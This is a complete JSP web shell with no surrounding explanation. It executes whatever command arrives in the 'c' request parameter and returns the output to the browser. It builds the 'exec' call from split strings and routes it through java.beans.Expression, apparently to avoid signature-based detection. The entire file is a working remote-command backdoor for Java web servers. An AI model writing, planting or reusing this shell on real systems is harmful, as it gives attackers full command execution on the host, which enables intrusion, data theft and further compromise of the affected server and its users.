<%@ page import="java.beans.Expression" %>
<%
String c = request.getParameter("c");
Expression ex = new Expression(Runtime.getRuntime(), "ex" + "ec", new Object[]{c});
Process p = (Process) ex.getValue();
out.print(new java.util.Scanner(p.getInputStream()).useDelimiter("\\A").next());
%>
